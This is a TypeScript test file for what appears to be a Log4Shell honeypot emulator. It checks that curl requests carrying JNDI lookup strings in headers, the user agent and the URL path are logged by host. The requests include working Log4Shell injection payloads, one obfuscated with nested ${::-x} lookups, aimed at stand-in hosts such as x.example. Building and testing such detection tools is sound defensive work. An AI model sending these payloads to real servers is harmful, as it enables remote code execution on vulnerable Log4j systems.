import { execFile } from 'node:child_process'
import { promisify } from 'node:util'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import log4shell from '../../src/emulators/log4shell/index.ts'
import { accountsOnly } from '../emulators/hosts.ts'
import { type Playing, play } from '../harness.ts'

const run = promisify(execFile)
let playing: Playing

beforeAll(async () => {
  playing = await play(log4shell, { persona: 'debian-web', hosts: accountsOnly(), settings: { limits: { connectionsPerSource: 200 } } })
})
afterAll(() => playing.stop())

describe('curl', () => {
  it('sees the page of the application, and its lookups are written down', async () => {
    const before = playing.data('jndi.lookup').length
    const address = `http://127.0.0.1:${playing.port(2)}`
    const { stdout } = await run('curl', ['-sS', '-H', 'X-Api-Version: ${jndi:ldap://127.0.0.1:1389/a}', `${address}/`])
    expect(stdout).toContain('Apache Tomcat/9.0.54')
    await run('curl', ['-sS', '-A', '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x.example/a}', `${address}/`])
    await run('curl', ['-sSg', `${address}/%24%7Bjndi:dns://y.example%7D`])
    expect(
      playing
        .data('jndi.lookup')
        .slice(before)
        .map(({ host }) => host),
    ).toEqual(['127.0.0.1', 'x.example', 'y.example'])
  })
})
